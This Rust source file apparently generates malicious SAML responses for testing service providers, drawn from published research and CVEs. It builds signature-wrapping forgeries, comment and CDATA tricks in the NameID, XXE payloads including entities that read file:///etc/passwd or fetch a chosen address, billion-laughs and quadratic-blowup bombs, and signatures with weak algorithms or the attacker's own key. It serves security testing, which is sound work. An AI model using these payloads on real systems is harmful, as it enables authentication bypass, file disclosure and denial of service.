//! Responses that published attacks on SAML libraries send.
//!
//! Sources: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), for the wrappings 1 to 8; CVE-2017-11427 and its
//! siblings for comments in the name; CVE-2024-45409 and CVE-2025-25291 for digests and markup that parsers take differently.

use super::{IdentityProvider, Response, Style, encode, swapped};

/// Signature wrappings: each holds the signed words of `genuine` somewhere, and those of `evil` where a careless reader looks.
///
/// - both must have different IDs
pub fn wrapped(provider: &IdentityProvider, genuine: &Response, evil: &Response) -> Vec<(&'static str, String)> {
    let plain = genuine.assertion(&provider.entity_id);
    let signed = provider.assert(genuine);
    let signature = provider.signature(&plain, &Style::default());
    let forged = evil.assertion(&provider.entity_id);
    // What is forged carries the signature of what is genuine.
    let carrying = |inside: &str| {
        with_signature(&forged, &swapped(&signature, "</ds:Signature>", &format!("{inside}</ds:Signature>")))
    };
    let object = |content: &str| format!("<ds:Object>{content}</ds:Object>");
    let extensions = |content: &str| Response {
        before_status: format!("<samlp:Extensions>{content}</samlp:Extensions>"),
        ..evil.clone()
    };
    let whole = genuine.write(&plain);
    let of_whole = provider.signature(&whole, &Style::default());
    let evil_whole = |inside: &str| Response { before_status: inside.to_owned(), ..evil.clone() }.write(&forged);
    let inside_whole = swapped(&of_whole, "</ds:Signature>", &format!("{}</ds:Signature>", object(&whole)));
    let same_id = Response { id: genuine.id.clone(), ..evil.clone() }.assertion(&provider.entity_id);
    vec![
        ("xsw1", evil_whole(&inside_whole)),
        ("xsw2", evil_whole(&format!("{whole}{of_whole}"))),
        ("xsw3", evil.write(&format!("{forged}{signed}"))),
        ("xsw4", evil.write(&swapped(&forged, "</saml:Assertion>", &format!("{signed}</saml:Assertion>")))),
        ("xsw5", evil.write(&format!("{}{plain}", carrying("")))),
        ("xsw6", evil.write(&carrying(&plain))),
        ("xsw7", extensions(&forged).write(&signed)),
        ("xsw8", evil.write(&carrying(&object(&plain)))),
        ("forged last", evil.write(&format!("{signed}{forged}"))),
        ("the same ID", evil.write(&format!("{same_id}{signed}"))),
        ("the same ID in one", extensions(&plain).write(&with_signature(&same_id, &signature))),
        (
            "in the advice",
            evil.write(&swapped(
                &carrying(""),
                "<saml:AttributeStatement>",
                &format!("<saml:Advice>{plain}</saml:Advice><saml:AttributeStatement>"),
            )),
        ),
        (
            "beside the assertion",
            format!(
                "<samlp:Pair xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{}{}</samlp:Pair>",
                evil.write(&forged),
                genuine.write(&signed)
            ),
        ),
        (
            "signature in the status",
            swapped(
                &evil.write(&forged),
                "</samlp:Status>",
                &format!("<samlp:StatusDetail>{signed}</samlp:StatusDetail></samlp:Status>"),
            ),
        ),
    ]
    .into_iter()
    .map(|(name, xml)| (name, encode(&xml)))
    .collect()
}

fn with_signature(element: &str, signature: &str) -> String {
    swapped(element, "</saml:Issuer>", &format!("</saml:Issuer>{signature}"))
}

/// A right response with markup in it that parsers treat in different ways, or that costs them dearly.
///
/// - `address`: where somebody would notice that an entity was fetched
pub fn disguised(provider: &IdentityProvider, response: &Response, address: &str) -> Vec<(&'static str, String)> {
    let right = response.write(&provider.assert(response));
    let subject = &response.subject;
    let (head, tail) = subject.split_at(subject.find(|character: char| character != 'a').unwrap_or(0));
    let named = format!(">{subject}</saml:NameID>");
    let inside = |markup: &str| swapped(&right, &named, &format!(">{head}{markup}{tail}</saml:NameID>"));
    let typed = |declarations: &str, reference: &str| format!("<!DOCTYPE r [{declarations}]>{}", inside(reference));
    let laugh = |n: u32| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10));
    let bomb = (1..10).map(laugh).collect::<Vec<_>>().concat();
    let many = format!("<!ENTITY q \"{}\">", "x".repeat(20_000));
    let deep = format!("{}{}", "<a>".repeat(8_000), "</a>".repeat(8_000));
    vec![
        ("a comment in the name", inside("<!-- x -->")),
        ("a comment behind the name", swapped(&right, &named, &format!(">{subject}<!---->.evil.example</saml:NameID>"))),
        ("a comment in the digest", swapped(&right, "<ds:DigestValue>", "<ds:DigestValue><!-- AAAA -->")),
        ("a comment elsewhere", swapped(&right, "<samlp:Status>", "<!-- x --><samlp:Status>")),
        ("a processing instruction", inside("<?x y?>")),
        ("a section", inside("<![CDATA[]]>")),
        ("a section for all", swapped(&right, &named, &format!("><![CDATA[{subject}]]></saml:NameID>"))),
        ("an empty DTD", format!("<!DOCTYPE r>{right}")),
        ("an internal entity", typed("<!ENTITY e \"\">", "&e;")),
        ("an external entity", typed(&format!("<!ENTITY e SYSTEM \"{address}\">"), "&e;")),
        ("a file", typed("<!ENTITY e SYSTEM \"file:///etc/passwd\">", "&e;")),
        ("a parameter entity", typed(&format!("<!ENTITY % e SYSTEM \"{address}\"> %e;"), "")),
        ("an external DTD", format!("<!DOCTYPE r SYSTEM \"{address}\">{right}")),
        ("a billion laughs", typed(&format!("<!ENTITY e0 \"lol\">{bomb}"), "&e9;")),
        ("a quadratic blowup", typed(&many, &"&q;".repeat(1_000))),
        ("depth", swapped(&right, "<samlp:Status>", &format!("<samlp:Extensions>{deep}</samlp:Extensions><samlp:Status>"))),
        ("an entity that nobody declared", inside("&nbsp;")),
        ("an inclusion", swapped(&right, "<samlp:Status>", &format!("<samlp:Extensions><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{address}\"/></samlp:Extensions><samlp:Status>")).replace("<saml:Assertion", "<saml:assertion").replace("</saml:Assertion", "</saml:assertion")),
        ("another encoding", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{right}")),
        ("another version", format!("<?xml version=\"1.1\"?>{right}")),
        ("two documents", format!("{right}{right}")),
    ]
    .into_iter()
    .map(|(name, xml)| (name, encode(&xml)))
    .collect()
}

/// Signatures that a careless reader takes: weak algorithms, keys of the attacker's own, and references to something else.
///
/// - `attacker`: a provider with the same entityID and another key
pub fn careless(
    provider: &IdentityProvider,
    attacker: &IdentityProvider,
    response: &Response,
) -> Vec<(&'static str, String)> {
    let plain = response.assertion(&provider.entity_id);
    let right = Style::default();
    let whole = |assertion: &str| encode(&response.write(assertion));
    let made = |style: &Style| whole(&provider.signed(&plain, style));
    let transforms = |more: &str| Style { transforms: format!("{}{more}", right.transforms), ..right.clone() };
    let method = |uri: &str| Style { method: uri.to_owned(), ..right.clone() };
    let key_info = format!(
        "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
        attacker.certificate()
    );
    let own_key = Style { key_info, ..right.clone() };
    let digest = |uri: &str| Style { digest: uri.to_owned(), ..right.clone() };
    let xslt = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet \
                xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"></xsl:stylesheet></ds:Transform>";
    let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>self::x</ds:XPath></ds:Transform>";
    let signed = provider.signed(&plain, &right);
    let more = "<ds:Reference URI=\"#x\"><ds:Transforms></ds:Transforms></ds:Reference>";
    vec![
        ("unsigned", whole(&plain)),
        ("the attacker's key in KeyInfo", whole(&attacker.signed(&plain, &own_key))),
        ("the attacker's key", whole(&attacker.signed(&plain, &right))),
        ("SHA-1 as the digest", made(&digest("http://www.w3.org/2000/09/xmldsig#sha1"))),
        ("MD5 as the digest", made(&digest("http://www.w3.org/2001/04/xmldsig-more#md5"))),
        ("RSA with SHA-1", made(&method("http://www.w3.org/2000/09/xmldsig#rsa-sha1"))),
        ("ECDSA with SHA-1", made(&method("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"))),
        ("HMAC with SHA-256", made(&method("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"))),
        ("HMAC with SHA-1", made(&method("http://www.w3.org/2000/09/xmldsig#hmac-sha1"))),
        ("no algorithm", made(&method(""))),
        (
            "a short HMAC",
            made(&Style { in_method: "<ds:HMACOutputLength>0</ds:HMACOutputLength>".to_owned(), ..right.clone() }),
        ),
        ("XSLT", made(&transforms(xslt))),
        ("XPath", made(&transforms(xpath))),
        ("no transform", made(&Style { transforms: String::new(), ..right.clone() })),
        (
            "inclusive canonicalisation",
            made(&Style {
                transforms: swapped(
                    &right.transforms,
                    "http://www.w3.org/2001/10/xml-exc-c14n#",
                    "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
                ),
                ..right.clone()
            }),
        ),
        (
            "comments kept",
            made(&Style {
                transforms: swapped(&right.transforms, "xml-exc-c14n#", "xml-exc-c14n#WithComments"),
                ..right.clone()
            }),
        ),
        ("the whole document", made(&Style { uri: Some(String::new()), ..right.clone() })),
        ("a file", made(&Style { uri: Some("file:///etc/passwd".to_owned()), ..right.clone() })),
        ("another element", made(&Style { uri: Some(format!("#{}-response", response.id)), ..right.clone() })),
        ("an XPointer", made(&Style { uri: Some(format!("#xpointer(id('{}'))", response.id)), ..right.clone() })),
        ("two references", made(&Style { more_references: more.to_owned(), ..right.clone() })),
        ("an object", made(&Style { object: "<ds:Object></ds:Object>".to_owned(), ..right.clone() })),
        ("another name", whole(&swapped(&signed, &format!(">{}<", response.subject), ">root<"))),
        (
            "another attribute",
            whole(&swapped(
                &signed,
                "</saml:AttributeStatement>",
                "<saml:Attribute Name=\"x\"></saml:Attribute></saml:AttributeStatement>",
            )),
        ),
        ("another digest", whole(&swapped(&signed, "<ds:DigestValue>", "<ds:DigestValue>AAAA"))),
        (
            "no signature value",
            whole(&swapped(
                &signed,
                "<ds:SignatureValue>",
                "<ds:SignatureValue></ds:SignatureValue><ds:SignatureValue>",
            )),
        ),
        (
            "an encrypted assertion",
            whole(
                "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"></saml:EncryptedAssertion>",
            ),
        ),
        (
            "a request to log out",
            encode(&format!(
                "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_x\" Version=\"2.0\">{signed}</samlp:LogoutRequest>"
            )),
        ),
    ]
}
